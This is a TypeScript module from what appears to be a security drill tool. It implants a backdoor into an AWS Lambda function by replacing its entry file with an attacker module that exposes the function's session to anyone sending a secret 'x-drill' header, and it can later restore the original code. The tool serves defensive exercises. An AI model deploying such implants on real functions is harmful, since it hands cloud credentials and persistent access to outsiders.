import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { GetFunctionCommand, type LambdaClient, UpdateFunctionCodeCommand, waitUntilFunctionUpdatedV2 } from '@aws-sdk/client-lambda';
import { CordonError } from './engine/errors.ts';
import { zipOf } from './engine/zip.ts';
import { unzip } from './unzip.ts';

/** The code of the attacker, opened by this word. */
const backdoor = (word: string): Buffer =>
  Buffer.from(readFileSync(join(import.meta.dirname, 'backdoor.mjs'), 'utf8').replace('{word}', word));

/** A function with a backdoor in it. */
export interface Implant {
  /** The header that opens it. Its word is new every time: nobody else can use what a drill leaves open. */
  readonly headers: Readonly<Record<string, string>>;
  /** Puts back exactly the code that was there. */
  remove(): Promise<void>;
}

const downloaded = async (FunctionName: string, lambda: LambdaClient): Promise<Buffer> => {
  const { Code } = await lambda.send(new GetFunctionCommand({ FunctionName }));
  const answer = await fetch(Code?.Location ?? '');
  if (!answer.ok) throw new CordonError(`the code of ${FunctionName} could not be downloaded: HTTP ${answer.status}`);
  return Buffer.from(await answer.arrayBuffer());
};

/** Rewrites a function so that it still works, and hands out its session to whoever knows the word. */
export const implant = async (FunctionName: string, lambda: LambdaClient): Promise<Implant> => {
  const clean = await downloaded(FunctionName, lambda);
  const files = unzip(clean);
  if (files.some(({ name }) => name === 'original.mjs'))
    throw new CordonError(`${FunctionName} still has the backdoor of a drill that was killed: deploy the application again, then drill`);
  const word = randomBytes(24).toString('hex');
  const update = async (ZipFile: Uint8Array): Promise<void> => {
    await lambda.send(new UpdateFunctionCodeCommand({ FunctionName, ZipFile }));
    await waitUntilFunctionUpdatedV2({ client: lambda, maxWaitTime: 60, minDelay: 1 }, { FunctionName });
  };
  await update(
    zipOf([
      ...files.map(({ name, data }) => ({ name: name === 'index.mjs' ? 'original.mjs' : name, data })),
      { name: 'index.mjs', data: backdoor(word) },
    ]),
  );
  return { headers: { 'x-drill': word }, remove: () => update(clean) };
};
